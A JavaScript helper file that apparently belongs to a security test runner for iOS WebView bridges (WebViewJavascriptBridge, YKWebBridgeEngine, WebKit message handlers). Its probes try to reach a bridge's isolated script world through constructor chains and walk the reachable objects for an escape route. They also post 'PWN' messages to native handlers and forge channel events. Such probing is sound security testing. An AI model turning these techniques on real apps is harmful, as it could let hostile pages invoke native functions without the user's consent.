// What every attack page has at hand. The runner puts VARIANT and PROBED in front: how the page uses the bridge, and
// the name of a handler in the page's own world, where the weakened form has one.
const END = (text) => { document.title = "END " + text; };
const pause = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
// While the parser runs, `document.open` does nothing.
const { setTimeout: later } = window;
const loaded = new Promise((done) => addEventListener("load", () => later(done, 0)));
const within = (promise, milliseconds) => Promise.race([promise, pause(milliseconds)]);

// The bridge, as a page uses it. "used": it was used before the attack begins; else the attack is its first use.
const bridge = {
  engine: () => (VARIANT.startsWith("wvjb6") ? WebViewJavascriptBridge : YKWebBridgeEngine),
  call(name, data) {
    const engine = bridge.engine();
    return new Promise((done) => (engine.callHandler || engine.sendMessage).call(engine, name, data, done));
  },
  on(body) {
    const engine = bridge.engine();
    (engine.registerHandler || engine.addMessageHandler).call(engine, "push", (data) => body(data));
  },
};
const hasBridge = (view) => typeof view.YKWebBridgeEngine + "/" + typeof view.WebViewJavascriptBridge;
async function connected() {
  if (VARIANT.startsWith("wvjb6")) {
    await new Promise((done) => {
      window.WVJBCallbacks = [done];
      const frame = document.createElement("iframe");
      frame.style.display = "none";
      frame.src = "https://__bridge_loaded__";
      document.documentElement.append(frame);
      setTimeout(() => frame.remove(), 0);
    });
  }
  if (VARIANT.endsWith("used")) await within(bridge.call("x"), 2000);
}

// Whoever holds the channel's node can try to speak; to hold it at all counts.
const grab = (node) => {
  if (!node || !node.dispatchEvent || node === window || node === document) return false;
  node.dispatchEvent(new CustomEvent("nb-send", { detail: "PWN" }));
  return true;
};
// The page has an object of that name, too; only the channel's world has WebKit's own.
const isWorld = (found) => !!found && Reflect.apply(Object.prototype.toString, found.webkit, []) === "[object WebKitNamespace]";
// Tries to get from a value to the world that made it.
const leak = (value, label) => {
  try {
    const make = value && value.constructor && value.constructor.constructor;
    const found = make && make("return this")();
    const escaped = isWorld(found);
    return label + ":" + typeof value + (escaped ? " ESCAPED" : "");
  } catch (error) {
    return label + ": " + error;
  }
};
// Walks over everything that can be reached from a value, and calls whatever might make code in the value's world.
function walk(start) {
  const seen = new Set(), queue = [[start, "x"]], hits = [];
  while (queue.length && seen.size < 20000) {
    const [object, path] = queue.shift();
    if ((typeof object !== "object" && typeof object !== "function") || object === null || seen.has(object)) continue;
    seen.add(object);
    if (typeof object === "function") {
      for (const make of [() => object("return this")(), () => Reflect.apply(object, undefined, [])]) {
        try {
          const found = make();
          if (isWorld(found)) hits.push(path + " ESCAPED");
        } catch { /* no way out here */ }
      }
    }
    try { queue.push([Object.getPrototypeOf(object), path + ".__proto__"]); } catch { /* a proxy */ }
    let keys = [];
    try { keys = Reflect.ownKeys(object); } catch { /* a proxy */ }
    for (const key of keys) {
      let property;
      try { property = Object.getOwnPropertyDescriptor(object, key); } catch { /* a proxy */ }
      if (!property) continue;
      const name = path + "." + String(key);
      if ("value" in property) queue.push([property.value, name]);
      else queue.push([property.get, name + "<get>"], [property.set, name + "<set>"]);
    }
  }
  return seen.size + " objects, " + (hits.slice(0, 3).join("; ") || "no way out");
}
// What a frame tries: the engine's own handler, the bridge, the channel's node.
const tryAsFrame = () => {
  let report = "webkit=" + typeof window.webkit + " bridge=" + hasBridge(window);
  try {
    webkit.messageHandlers[PROBED].postMessage("PWN frame");
    report += " posted";
  } catch { /* there is none */ }
  return report + " node=" + grab(document.querySelector("nb-channel"));
};
